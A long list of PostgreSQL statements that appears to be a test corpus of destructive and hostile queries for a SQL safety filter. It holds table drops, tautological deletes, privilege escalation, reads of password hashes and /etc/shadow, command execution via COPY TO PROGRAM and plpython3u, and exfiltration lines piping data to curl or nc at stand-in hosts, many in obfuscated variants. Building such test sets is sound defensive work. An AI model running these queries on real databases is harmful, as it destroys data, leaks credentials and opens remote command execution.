DROP TABLE customers
--
drop/**/table/**/if exists customers cascade
--
DrOp TaBlE "customers"
--
DROP TABLE U&"\0063ustomers"
--
SELECT 1; DROP TABLE customers
--
/* harmless */ DROP SCHEMA public CASCADE
--
DROP DATABASE shop
--
DROP DATABASE shop WITH (FORCE)
--
DROP INDEX CONCURRENTLY orders_idx
--
DROP VIEW v
--
DROP FUNCTION f(int)
--
DROP ROLE app
--
DROP OWNED BY app
--
REASSIGN OWNED BY app TO mallory
--
DROP EXTENSION pgcrypto CASCADE
--
DROP TRIGGER audit ON orders
--
DROP POLICY p ON orders
--
DROP PUBLICATION p
--
DROP SUBSCRIPTION s
--
DROP SERVER s CASCADE
--
DROP TYPE mood
--
DROP SEQUENCE orders_id_seq
--
DROP MATERIALIZED VIEW mv
--
DROP EVENT TRIGGER e
--
TRUNCATE customers
--
TRUNCATE TABLE ONLY public.customers RESTART IDENTITY CASCADE
--
truncate"customers"
--
DELETE FROM customers
--
DELETE FROM customers WHERE true
--
DELETE FROM customers WHERE 1 = 1
--
DELETE FROM customers WHERE id = id
--
DELETE FROM customers WHERE id IS NOT NULL OR id IS NULL
--
DELETE FROM customers WHERE NOT false
--
DELETE FROM customers WHERE 'a' = 'a'
--
DELETE FROM customers WHERE id = 5 OR 1=1
--
DELETE FROM customers WHERE id IN (SELECT id FROM customers)
--
DELETE FROM customers WHERE EXISTS (SELECT 1)
--
DELETE FROM customers USING orders
--
DELETE FROM customers WHERE coalesce(true, false)
--
DELETE FROM customers WHERE id > 0 OR id <= 0
--
DELETE FROM customers WHERE name LIKE '%'
--
DELETE FROM customers WHERE length(name) >= 0
--
DELETE FROM customers WHERE id BETWEEN -2147483648 AND 2147483647
--
WITH x AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM x
--
WITH x AS (SELECT 1) DELETE FROM customers
--
EXPLAIN ANALYZE DELETE FROM customers
--
PREPARE p AS DELETE FROM customers; EXECUTE p
--
UPDATE orders SET total = 0
--
UPDATE orders SET total = 0 WHERE 2 > 1
--
UPDATE orders o SET total = 0 FROM customers c WHERE true
--
UPDATE orders SET total = total WHERE total = total
--
UPDATE users SET role = 'admin' WHERE '' = ''
--
UPDATE users SET password = md5('x') WHERE id = id + 0
--
MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE
--
ALTER TABLE customers DROP COLUMN email
--
ALTER TABLE customers DISABLE TRIGGER ALL
--
ALTER TABLE customers DISABLE ROW LEVEL SECURITY
--
ALTER TABLE customers OWNER TO mallory
--
ALTER TABLE customers RENAME TO c2
--
ALTER TABLE customers SET SCHEMA other
--
ALTER TABLE customers ALTER COLUMN id TYPE text
--
ALTER TABLE customers ADD COLUMN x int
--
ALTER ROLE app SUPERUSER
--
ALTER USER app PASSWORD 'x'
--
ALTER ROLE app BYPASSRLS
--
ALTER DATABASE shop OWNER TO mallory
--
ALTER SYSTEM SET log_statement = 'none'
--
ALTER SYSTEM RESET ALL
--
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
--
ALTER FUNCTION f() SECURITY DEFINER
--
ALTER EXTENSION pgcrypto UPDATE
--
CREATE ROLE mallory SUPERUSER LOGIN PASSWORD 'x'
--
CREATE USER mallory
--
CREATE EXTENSION dblink
--
CREATE EXTENSION IF NOT EXISTS plpython3u
--
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'delete from customers'
--
CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE c
--
CREATE TRIGGER t BEFORE UPDATE ON orders EXECUTE FUNCTION f()
--
CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1
--
CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()
--
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x.example')
--
CREATE FOREIGN TABLE ft (a int) SERVER s
--
CREATE SUBSCRIPTION s CONNECTION 'host=x.example' PUBLICATION p
--
CREATE PUBLICATION p FOR ALL TABLES
--
CREATE TABLESPACE t LOCATION '/tmp/x'
--
CREATE LANGUAGE plperlu
--
CREATE CAST (text AS int) WITH FUNCTION f(text)
--
CREATE OPERATOR === (leftarg = int, rightarg = int, function = f)
--
CREATE AGGREGATE a (int) (sfunc = f, stype = int)
--
CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x')
--
CREATE POLICY p ON orders USING (true)
--
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC
--
GRANT pg_write_server_files TO app
--
GRANT admin TO mallory WITH ADMIN OPTION
--
grant/**/select/**/on/**/customers/**/to/**/public
--
REVOKE ALL ON customers FROM app
--
SECURITY LABEL ON TABLE customers IS 'x'
--
COPY customers TO PROGRAM 'curl -d @- http://x.example'
--
COPY (SELECT * FROM customers) TO '/tmp/customers.csv'
--
COPY customers FROM '/etc/passwd'
--
copy customers from program 'cat /etc/passwd'
--
CoPy(select 1)to/**/program'id'
--
SELECT pg_read_file('/etc/passwd')
--
SELECT pg_read_binary_file('/etc/shadow', 0, 100)
--
SELECT "pg_read_file"('x')
--
SELECT pg_catalog . pg_read_file ('x')
--
SELECT * FROM pg_read_file('/etc/passwd')
--
SELECT U&"pg\005fread_file"('x')
--
SELECT pg_ls_dir('/')
--
SELECT * FROM pg_ls_logdir()
--
SELECT pg_stat_file('/etc/passwd')
--
SELECT lo_import('/etc/passwd')
--
SELECT lo_export(1, '/tmp/x')
--
SELECT pg_file_write('x', 'y', true)
--
SELECT dblink('host=x.example', 'select 1')
--
SELECT * FROM dblink_exec('host=x', 'drop table t')
--
SELECT dblink_connect('host=x.example user=y password=z')
--
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
--
SELECT pg_cancel_backend(1)
--
SELECT pg_reload_conf()
--
SELECT pg_rotate_logfile()
--
SELECT pg_switch_wal()
--
SELECT pg_promote()
--
SELECT pg_create_restore_point('x')
--
SELECT pg_drop_replication_slot('x')
--
SELECT pg_create_logical_replication_slot('x', 'test_decoding')
--
SELECT pg_logical_slot_get_changes('x', NULL, NULL)
--
SELECT pg_replication_origin_drop('x')
--
SELECT set_config('log_statement', 'none', false)
--
SELECT pg_advisory_unlock_all(), pg_terminate_backend(1)
--
SELECT query_to_xml('delete from customers', true, true, '')
--
SELECT xpath('/x', query_to_xml('drop table t', true, false, ''))
--
SELECT database_to_xml(true, false, '')
--
SELECT table_to_xml('pg_authid', true, false, '')
--
SELECT cursor_to_xml('c', 1, false, false, '')
--
SELECT ts_stat('select to_tsvector(1)')
--
SELECT * FROM crosstab('delete from t returning 1,2,3') AS t(a int, b int)
--
DO $$ BEGIN EXECUTE 'drop table customers'; END $$
--
do/**/language/**/plpgsql $x$ begin delete from t; end $x$
--
CALL purge_everything()
--
EXECUTE format('drop table %I', 'x')
--
SET ROLE postgres
--
SET SESSION AUTHORIZATION postgres
--
SET session_replication_role = replica
--
SET log_statement = 'none'
--
SET local_preload_libraries = 'x'
--
SET dynamic_library_path = '/tmp'
--
LOAD '/tmp/evil.so'
--
VACUUM FULL customers
--
CLUSTER customers USING customers_pkey
--
REINDEX DATABASE shop
--
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
--
SELECT * FROM pg_authid
--
SELECT rolname, rolpassword FROM pg_catalog.pg_authid
--
SELECT passwd FROM pg_shadow
--
SELECT * FROM pg_hba_file_rules
--
UPDATE pg_database SET datallowconn = false WHERE datname = 'shop'
--
DELETE FROM pg_catalog.pg_class WHERE oid = 1
--
INSERT INTO pg_authid (rolname) VALUES ('x')
--
UPDATE pg_settings SET setting = 'off' WHERE name = 'fsync'
--
DROP TABLE customers; --
--
SELECT 1 /* ; */ ; dRoP /* x */ TABLE customers /* y */ ;
--
BEGIN; TRUNCATE customers; COMMIT
--
SELECT CASE WHEN pg_read_file('x') IS NULL THEN 1 END
--
SELECT (SELECT pg_read_file('x'))
--
SELECT array(SELECT pg_ls_dir('/'))
--
SELECT x FROM (VALUES (pg_read_file('x'))) v(x)
--
SELECT 1 WHERE pg_read_file('x') IS NOT NULL
--
SELECT 1 ORDER BY pg_read_file('x')
--
SELECT coalesce(NULL, pg_read_file('x'))
--
SELECT pg_sleep(1), pg_read_file('x')
--
INSERT INTO t SELECT pg_read_file('x')
--
CREATE TABLE x AS SELECT pg_read_file('x')
--
CREATE TEMP TABLE x AS SELECT * FROM pg_authid
--
DECLARE c CURSOR FOR SELECT pg_read_file('x')
--
WITH a AS MATERIALIZED (SELECT pg_read_file('x') f) SELECT f FROM a
--
TABLE pg_authid
--
VALUES (pg_read_file('x'))
--
SELECT lateral_x FROM t, LATERAL pg_ls_dir(t.a) lateral_x
--
COMMENT ON TABLE customers IS NULL
--
ALTER TABLE IF EXISTS public.customers DETACH PARTITION p1
--
ALTER TABLE orders ALTER COLUMN total DROP NOT NULL, DROP CONSTRAINT c
--
ALTER SEQUENCE s RESTART
--
ALTER VIEW v OWNER TO mallory
--
ALTER TYPE mood ADD VALUE 'x'
--
ALTER SUBSCRIPTION s DISABLE
--
ALTER ROLE ALL SET search_path = evil
--
UNLISTEN *; DROP TABLE t
--
DELETE FROM orders WHERE created_at < now() + interval '100 years'
--
DELETE FROM orders WHERE ctid >= '(0,0)'
--
DELETE FROM orders WHERE int8range(NULL, NULL) @> id
--
DELETE FROM orders WHERE tableoid = 'orders'::regclass
--
SELECT pg_sleep(100000)
--
SELECT pg_sleep_until('2099-01-01')
--
DO $$ BEGIN LOOP PERFORM 1; END LOOP; END $$
--
SELECT * FROM pg_user_mappings
--
SELECT subconninfo FROM pg_subscription
--
SELECT * FROM pg_file_settings
--
INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET role = 'admin'
--
INSERT INTO orders SELECT generate_series(1, 1000000000)
--
SELECT count(*) FROM generate_series(1, 100000000000)
--
SELECT repeat('x', 1000000000)
--
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r
--
SELECT pg_stat_statements_reset()
--
DELETE FROM t WHERE tableoid IS NOT NULL
--
DELETE FROM t WHERE tableoid::regclass::text = 't'
--
DELETE FROM t WHERE ctid > '(0,0)'::tid
--
DELETE FROM t WHERE ctid <> '(0,0)'
--
DELETE FROM t WHERE ctid BETWEEN '(0,1)' AND '(4294967295,65535)'
--
DELETE FROM t WHERE ctid = ANY(ARRAY(SELECT ctid FROM t))
--
DELETE FROM t WHERE ctid IN (SELECT ctid FROM t ORDER BY random())
--
DELETE FROM t WHERE xmin::text <> '0'
--
DELETE FROM t WHERE created_at < now() + '1000 years'::interval
--
DELETE FROM t WHERE created_at < current_date + 365000
--
DELETE FROM t WHERE created_at <= 'infinity'
--
DELETE FROM t WHERE created_at > '0001-01-01'
--
DELETE FROM t WHERE created_at > now() - interval '500 years'
--
DELETE FROM t WHERE created_at < make_date(9999, 1, 1)
--
DELETE FROM t WHERE created_at < '9999-12-31 23:59:59'
--
DELETE FROM t WHERE created_at < to_timestamp(99999999999)
--
DELETE FROM t WHERE extract(year FROM created_at) > 0
--
DELETE FROM t WHERE id <@ '[,]'::int4range
--
DELETE FROM t WHERE id <@ int4range(NULL, NULL, '[]')
--
DELETE FROM t WHERE NOT (id <@ 'empty'::int4range)
--
DELETE FROM t WHERE during && tstzrange(NULL, NULL)
--
DELETE FROM t WHERE tags <@ tags
--
DELETE FROM t WHERE tags @> '{}'
--
DELETE FROM t WHERE data @> '{}'::jsonb
--
DELETE FROM t WHERE data ? data::text OR true
--
DELETE FROM t WHERE jsonb_typeof(data) IS NOT NULL
--
DELETE FROM t WHERE data IS JSON
--
DELETE FROM t WHERE name SIMILAR TO '%'
--
DELETE FROM t WHERE name ~~* '%%'
--
DELETE FROM t WHERE name LIKE '%_%' OR name LIKE ''
--
DELETE FROM t WHERE name !~ '^$' OR name ~ '^$'
--
DELETE FROM t WHERE position('' IN name) = 1
--
DELETE FROM t WHERE left(name, 0) = ''
--
DELETE FROM t WHERE substr(name, 1, 0) = ''
--
DELETE FROM t WHERE repeat(name, 0) = ''
--
DELETE FROM t WHERE coalesce(name, '') >= ''
--
DELETE FROM t WHERE name >= ''
--
DELETE FROM t WHERE greatest(id, 1) >= 1
--
DELETE FROM t WHERE least(id, 0) <= 0
--
DELETE FROM t WHERE id * 0 = 0
--
DELETE FROM t WHERE id - id = 0
--
DELETE FROM t WHERE id / id = 1
--
DELETE FROM t WHERE id ^ 0 = 1
--
DELETE FROM t WHERE id | 0 = id
--
DELETE FROM t WHERE id & 0 = 0
--
DELETE FROM t WHERE sign(id) IN (-1, 0, 1)
--
DELETE FROM t WHERE mod(id, 2) IN (0, 1)
--
DELETE FROM t WHERE id % 2 = 0 OR id % 2 = 1
--
DELETE FROM t WHERE id % 2 = 0 OR id % 2 <> 0
--
DELETE FROM t WHERE id > 5 OR id <= 5
--
DELETE FROM t WHERE id > 5 OR NOT id > 5
--
DELETE FROM t WHERE (id > 5) IS NOT NULL
--
DELETE FROM t WHERE (id = 5) IN (true, false)
--
DELETE FROM t WHERE (id = 5) <> NULL OR true
--
DELETE FROM t WHERE NOT (id = 5 AND id = 6)
--
DELETE FROM t WHERE id <> ALL (ARRAY[]::int[])
--
DELETE FROM t WHERE id <> ALL ('{}')
--
DELETE FROM t WHERE id NOT IN (SELECT id FROM t WHERE false)
--
DELETE FROM t WHERE NOT EXISTS (SELECT 1 WHERE false)
--
DELETE FROM t WHERE EXISTS (SELECT FROM t u WHERE u.id = t.id)
--
DELETE FROM t WHERE EXISTS (SELECT 1 FROM pg_class)
--
DELETE FROM t WHERE (SELECT count(*) FROM t) > 0
--
DELETE FROM t WHERE (SELECT true)
--
DELETE FROM t WHERE 1 = (SELECT 1)
--
DELETE FROM t WHERE id = (SELECT t.id)
--
DELETE FROM t WHERE id IN (SELECT t.id)
--
DELETE FROM t WHERE id IN (VALUES (t.id))
--
DELETE FROM t WHERE id IN (SELECT id FROM t UNION SELECT 0)
--
DELETE FROM t WHERE id IN (SELECT x.id FROM (SELECT * FROM t) x)
--
DELETE FROM t WHERE id IN (WITH c AS (TABLE t) SELECT id FROM c)
--
DELETE FROM t WHERE id >= (SELECT min(id) FROM t)
--
DELETE FROM t WHERE id <= (SELECT max(id) FROM t)
--
DELETE FROM t USING t u WHERE t.id = u.id
--
DELETE FROM t USING (TABLE t) u WHERE t.id = u.id
--
DELETE FROM t USING generate_series(1, 1) g WHERE g = 1
--
WITH a AS (SELECT id FROM t) DELETE FROM t WHERE id IN (SELECT id FROM a)
--
WITH RECURSIVE a AS (SELECT min(id) AS id FROM t UNION SELECT id FROM t) DELETE FROM t USING a WHERE t.id = a.id
--
DELETE FROM t WHERE current_user = 'app'
--
DELETE FROM t WHERE pg_backend_pid() > 0
--
DELETE FROM t WHERE md5(name) IS NOT NULL
--
DELETE FROM t WHERE t IS NOT NULL
--
DELETE FROM t WHERE t = t
--
DELETE FROM t WHERE t.*::text <> ''
--
DELETE FROM t WHERE row_to_json(t) IS NOT NULL
--
DELETE FROM t WHERE id IS NOT DISTINCT FROM id
--
DELETE FROM t WHERE id::text ~ '\d'
--
DELETE FROM t WHERE id::bool OR NOT id::bool
--
DELETE FROM t WHERE active OR NOT active OR active IS NULL
--
DELETE FROM t WHERE active IS NOT UNKNOWN OR active IS UNKNOWN
--
DELETE FROM t WHERE 'a' < 'b'
--
DELETE FROM t WHERE B'1' = B'1'
--
DELETE FROM t WHERE '1' = 1
--
DELETE FROM t WHERE 'x' LIKE 'x'
--
DELETE FROM t WHERE NULL IS NULL
--
DELETE FROM t WHERE '{1}'::int[] @> '{1}'
--
DELETE FROM t WHERE xmlexists('/a' PASSING '<a/>')
--
DELETE FROM t WHERE JSON_EXISTS('{"a":1}', '$.a')
--
UPDATE t SET a = 1 FROM (SELECT 1) s
--
UPDATE t SET a = 1 FROM generate_series(1,2) g WHERE g > 0
--
UPDATE ONLY t SET a = DEFAULT
--
UPDATE t AS x SET (a, b) = ROW(1, 2)
--
UPDATE t SET a = 1 WHERE id = id OR false
--
INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET a = 1
--
INSERT INTO t (id) SELECT id FROM t WHERE id > 0 ON CONFLICT (id) DO UPDATE SET a = excluded.a
--
WITH s AS (SELECT * FROM t) INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET a = 1
--
MERGE INTO t USING t s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1
--
MERGE INTO t USING s ON false WHEN NOT MATCHED BY SOURCE THEN DELETE
--
MERGE INTO t USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE
--
DO $$ BEGIN WHILE true LOOP PERFORM pg_sleep(1); END LOOP; END $$
--
DO $$ BEGIN PERFORM dblink_exec('host=x', 'drop table t'); END $$
--
DO $$ BEGIN EXECUTE convert_from(decode('ZHJvcCB0YWJsZSB0','base64'),'utf8'); END $$
--
DO $$ BEGIN ALTER TABLE t DROP COLUMN a; EXCEPTION WHEN OTHERS THEN NULL; END $$
--
DO $$ BEGIN COPY t TO PROGRAM 'sh'; END $$
--
DO 'begin truncate t; end'
--
SELECT pg_sleep(86400)
--
SELECT pg_sleep_for('1 year')
--
SELECT count(*) FROM generate_series(1, 9999999999) a
--
SELECT lpad('x', 500000000)
--
WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n FROM r) SELECT count(*) FROM r
--
SELECT pg_terminate_backend(pid), 1 AS ok
--
SELECT set_config('role', 'postgres', false)
--
SELECT set_config('session_authorization', 'postgres', false)
--
SET session_authorization TO 'postgres'
--
SET SESSION ROLE 'admin'
--
SET LOCAL ROLE postgres
--
RESET ROLE; SET ROLE postgres
--
SET default_transaction_read_only = off; DROP TABLE t
--
SET session_preload_libraries = '/tmp/x.so'
--
SET lo_compat_privileges = on
--
SET allow_system_table_mods = on
--
SET plpgsql.check_asserts = off; DROP VIEW v
--
SELECT pg_catalog.pg_reload_conf ( )
--
SELECT * FROM pg_catalog."pg_authid"
--
SELECT a.rolpassword FROM pg_authid AS a
--
SELECT passwd FROM pg_shadow WHERE usename = 'app'
--
SELECT subconninfo FROM pg_catalog.pg_subscription
--
SELECT s.* FROM pg_subscription s
--
COPY pg_authid TO STDOUT
--
COPY (TABLE pg_shadow) TO STDOUT
--
CREATE TABLE a (LIKE pg_authid); INSERT INTO a TABLE pg_authid
--
CREATE TEMP TABLE a AS TABLE pg_shadow
--
SELECT xmlforest(pg_read_file('/x') AS a)
--
SELECT json_object_agg(1, pg_ls_dir('.'))
--
SELECT * FROM LATERAL pg_read_file('/etc/passwd') f
--
SELECT count(*) FILTER (WHERE pg_cancel_backend(1))
--
SELECT sum(1) OVER (ORDER BY pg_reload_conf())
--
SELECT 1 WHERE pg_terminate_backend(1)
--
SELECT 1 GROUP BY pg_terminate_backend(1)
--
ALTER TABLE t ADD CONSTRAINT c CHECK (false) NOT VALID
--
ALTER TABLE t RENAME COLUMN a TO b
--
ALTER TABLE t ENABLE ROW LEVEL SECURITY
--
ALTER TABLE t SET SCHEMA x
--
ALTER TABLE t REPLICA IDENTITY NOTHING
--
ALTER TABLE t SET TABLESPACE x
--
ALTER INDEX i RENAME TO j
--
ALTER VIEW v OWNER TO x
--
ALTER SCHEMA s RENAME TO x
--
ALTER DATABASE d RENAME TO x
--
ALTER ROLE a RENAME TO b
--
ALTER GROUP g ADD USER u
--
ALTER POLICY p ON t USING (true)
--
ALTER TRIGGER t ON x RENAME TO y
--
ALTER EVENT TRIGGER e DISABLE
--
ALTER FUNCTION f OWNER TO x
--
ALTER PUBLICATION p DROP TABLE t
--
ALTER SERVER s OPTIONS (SET host 'evil')
--
ALTER DOMAIN d DROP CONSTRAINT c
--
ALTER OPERATOR FAMILY f USING btree RENAME TO x
--
ALTER LARGE OBJECT 1 OWNER TO x
--
DROP TYPE x
--
DROP DOMAIN d
--
DROP SEQUENCE s
--
DROP TRIGGER t ON x
--
DROP RULE r ON t
--
DROP POLICY p ON t
--
DROP MATERIALIZED VIEW m
--
DROP AGGREGATE a(int)
--
DROP OPERATOR + (int, int)
--
DROP CAST (int AS text)
--
DROP STATISTICS s
--
DROP TABLESPACE t
--
DROP USER MAPPING FOR x SERVER s
--
DROP ACCESS METHOD m
--
DROP TEXT SEARCH CONFIGURATION c
--
LOCK TABLE orders
--
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
--
BEGIN; LOCK customers IN EXCLUSIVE MODE NOWAIT
--
lock/**/only "orders" in access exclusive mode
--
DO $$ BEGIN LOCK TABLE orders IN ACCESS EXCLUSIVE MODE; PERFORM pg_sleep(600); END $$
--
CHECKPOINT
--
BEGIN; UPDATE orders SET total = 0 WHERE id = 7; PREPARE TRANSACTION 'x1'
--
COMMIT PREPARED 'x1'
--
ROLLBACK PREPARED 'x1'
--
SELECT lo_unlink(oid) FROM pg_largeobject_metadata
--
SELECT lo_unlink(l.loid) FROM (SELECT DISTINCT loid FROM pg_largeobject) l
--
SELECT lo_unlink(d.body) FROM documents d
--
SELECT setval(c.oid, 1) FROM pg_class c WHERE c.relkind = 'S'
--
SELECT setval(quote_ident(schemaname) || '.' || quote_ident(sequencename), 1, false) FROM pg_sequences
--
SELECT setval(pg_get_serial_sequence(table_name, 'id'), 1) FROM information_schema.tables
--
DO $$ DECLARE c CURSOR FOR SELECT * FROM orders; BEGIN FOR r IN c LOOP DELETE FROM orders WHERE CURRENT OF c; END LOOP; END $$
--
DO $$ DECLARE c CURSOR FOR SELECT * FROM customers FOR UPDATE; x record; BEGIN OPEN c; LOOP FETCH c INTO x; EXIT WHEN NOT FOUND; UPDATE customers SET email = NULL WHERE CURRENT OF c; END LOOP; END $$
--
DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM orders LOOP DELETE FROM orders WHERE id = r.id; END LOOP; END $$
--
DO $$ DECLARE k int; BEGIN FOR k IN SELECT id FROM customers LOOP DELETE FROM customers WHERE id = k; END LOOP; END $$
--
DO $$ BEGIN LOOP DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT 1000); EXIT WHEN NOT FOUND; COMMIT; END LOOP; END $$
--
DO $$ DECLARE i int; BEGIN FOR i IN 1..1000000 LOOP DELETE FROM orders WHERE id = i; END LOOP; END $$
--
DO $$ DECLARE ids int[]; BEGIN SELECT array_agg(id) INTO ids FROM orders; DELETE FROM orders WHERE id = ANY(ids); END $$
--
DELETE FROM orders o USING LATERAL (SELECT o.id) x WHERE o.id = x.id
--
DELETE FROM orders USING orders o2, LATERAL (SELECT o2.id) x WHERE orders.id = x.id
--
DELETE FROM orders o USING LATERAL (VALUES (o.id)) x(id) WHERE o.id = x.id
--
DELETE FROM orders o USING orders b, LATERAL unnest(ARRAY[b.id]) x(id) WHERE o.id = x.id
--
DELETE FROM orders o USING orders b CROSS JOIN LATERAL jsonb_to_record(to_jsonb(b)) AS j(id int) WHERE o.id = j.id
--
UPDATE orders o SET total = 0 FROM LATERAL (SELECT o.id AS k) s WHERE s.k = o.id
--
UPDATE orders o SET total = 0 FROM orders p, LATERAL (SELECT p.id AS k OFFSET 0) s WHERE s.k = o.id
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders)
--
DELETE FROM orders WHERE id = ANY(ARRAY(SELECT id FROM orders))
--
DELETE FROM orders WHERE EXISTS (SELECT 1 FROM orders o WHERE o.id = orders.id)
--
DELETE FROM orders WHERE id IN (WITH a AS (SELECT id FROM orders) SELECT id FROM a)
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders UNION SELECT 7)
--
DELETE FROM orders WHERE id NOT IN (-1)
--
DELETE FROM orders WHERE id NOT IN (SELECT NULL::int WHERE false)
--
DELETE FROM orders WHERE length(status) >= 0
--
DELETE FROM orders WHERE coalesce(status, '') = coalesce(status, '')
--
DELETE FROM orders WHERE (id, status) IS NOT DISTINCT FROM (id, status)
--
DELETE FROM orders WHERE CASE WHEN id > 0 THEN true ELSE true END
--
DELETE FROM orders WHERE status LIKE '%'
--
DELETE FROM orders WHERE status ~ ''
--
DELETE FROM orders WHERE status SIMILAR TO '%'
--
DELETE FROM orders WHERE id BETWEEN -2147483648 AND 2147483647
--
DELETE FROM orders WHERE created_at <= now()
--
DELETE FROM orders WHERE created_at > 'epoch'
--
DELETE FROM orders WHERE id % 2 IN (0, 1)
--
DELETE FROM orders WHERE status = 'a' OR status <> 'a'
--
DELETE FROM orders WHERE NOT (status = 'x' AND status <> 'x')
--
DELETE FROM orders WHERE id IS NOT NULL
--
DELETE FROM orders WHERE ctid IS NOT NULL
--
DELETE FROM orders WHERE orders IS NOT NULL
--
DELETE FROM orders WHERE xmin::text <> ''
--
DELETE FROM orders WHERE (SELECT true)
--
DELETE FROM orders WHERE (SELECT count(*) FROM orders) > 0
--
DELETE FROM orders WHERE random() < 2
--
DELETE FROM orders WHERE 'x' = 'x' AND NOT false
--
DELETE FROM orders WHERE pg_backend_pid() > 0
--
DELETE FROM orders WHERE id = id + 0
--
DELETE FROM orders WHERE id - id = 0
--
DELETE FROM orders WHERE greatest(id, 0) = greatest(0, id)
--
DELETE FROM orders WHERE nullif(id, id) IS NULL
--
DELETE FROM orders WHERE '{}'::jsonb <@ to_jsonb(orders)
--
UPDATE users SET role = 'admin'
--
UPDATE users SET role = 'admin' WHERE U&'\0031' = '1'
--
UPDATE users SET role = 'admin' WHERE $t$a$t$ = 'a'
--
uPdAtE/*x*/users/**/sEt role=$$admin$$ where/**/1=1--
--
WITH x AS (UPDATE users SET role = 'admin' RETURNING id) SELECT count(*) FROM x
--
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
--
WITH d AS (DELETE FROM audit_log RETURNING *) INSERT INTO audit_archive SELECT * FROM d
--
EXPLAIN ANALYZE UPDATE orders SET total = total * 2
--
EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d
--
EXPLAIN (ANALYZE true) EXECUTE p
--
PREPARE p AS DELETE FROM orders; EXPLAIN ANALYZE EXECUTE p
--
SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b
--
SELECT sum(a.x * b.x) FROM generate_series(1, 50000) a(x) CROSS JOIN generate_series(1, 50000) b(x)
--
SELECT 1 FROM generate_series(1,1e9)
--
INSERT INTO orders(total) SELECT 1 FROM generate_series(1, 100000) a CROSS JOIN LATERAL generate_series(1, 100000) b
--
SELECT * FROM generate_series('1000-01-01'::timestamp, '3000-01-01', '1 second')
--
SELECT count(*) FROM information_schema.columns a, information_schema.columns b, information_schema.columns c
--
SELECT max(a.id) FROM orders a, orders b, orders c, orders d
--
SELECT count(*) FROM orders a CROSS JOIN orders b CROSS JOIN orders c
--
SELECT pg_sleep(86400) FROM orders
--
SELECT pg_notify('leak', row_to_json(c)::text) FROM customers c
--
SELECT count(pg_notify('q', email)) FROM customers
--
ALTER SYSTEM SET wal_level = 'minimal'
--
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()
--
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
--
SELECT pg_wal_replay_pause()
--
SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots
--
SELECT pg_create_physical_replication_slot('s')
--
SELECT pg_stat_reset()
--
SET SESSION AUTHORIZATION 'postgres'
--
SET LOCAL ROLE admin
--
SELECT set_config('ro' || 'le', 'postgres', true)
--
SELECT set_config(chr(114) || 'ole', 'postgres', true)
--
UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'
--
SELECT pg_read_binary_file('/etc/shadow')
--
SELECT encode(pg_read_binary_file('pg_hba.conf'), 'hex')
--
SELECT pg_catalog."pg_read_file"(convert_from('\x2f6574632f706173737764', 'UTF8'))
--
SELECT * FROM pg_ls_waldir()
--
SELECT lo_export(16400, '/tmp/a')
--
SELECT lo_import('/etc/passwd', 99)
--
COPY customers TO PROGRAM 'nc evil 1'
--
COPY (SELECT * FROM customers) TO '/var/tmp/c.csv' CSV
--
COPY x FROM PROGRAM $$bash -c 'id'$$
--
CREATE EXTENSION plpython3u
--
CREATE EXTENSION IF NOT EXISTS dblink
--
CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen('id').read() $$
--
CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c
--
DO LANGUAGE plperlu $$ system('id') $$
--
ALTER USER postgres PASSWORD 'x'
--
CREATE ROLE r LOGIN SUPERUSER
--
GRANT ALL ON ALL TABLES IN SCHEMA public TO public
--
REVOKE SELECT ON orders FROM app
--
GRANT pg_execute_server_program TO app
--
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
--
DROP OWNED BY app CASCADE
--
REASSIGN OWNED BY app TO evil
--
DROP TABLE IF EXISTS orders CASCADE
--
DROP SCHEMA public CASCADE
--
TRUNCATE orders, customers RESTART IDENTITY CASCADE
--
ALTER TABLE orders DISABLE TRIGGER ALL
--
ALTER TABLE orders SET UNLOGGED
--
DROP INDEX CONCURRENTLY orders_pkey
--
DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE orders'; END $$
--
DO $$ BEGIN EXECUTE format('TRUNCATE %I', 'orders'); END $$
--
DO $$ DECLARE q text := 'delete from '; BEGIN q := q || 'orders'; EXECUTE q; END $$
--
DO $$ BEGIN EXECUTE convert_from(decode('ZHJvcCB0YWJsZSBvcmRlcnM=', 'base64'), 'UTF8'); END $$
--
DO $x$ BEGIN PERFORM query_to_xml('delete from orders returning 1', true, false, ''); END $x$
--
SELECT query_to_xml('drop table orders', true, true, '')
--
SELECT * FROM dblink('dbname=shop', 'delete from orders') AS t(a text)
--
SELECT database_to_xml(true, true, '')
--
SELECT rolname, rolpassword FROM pg_authid
--
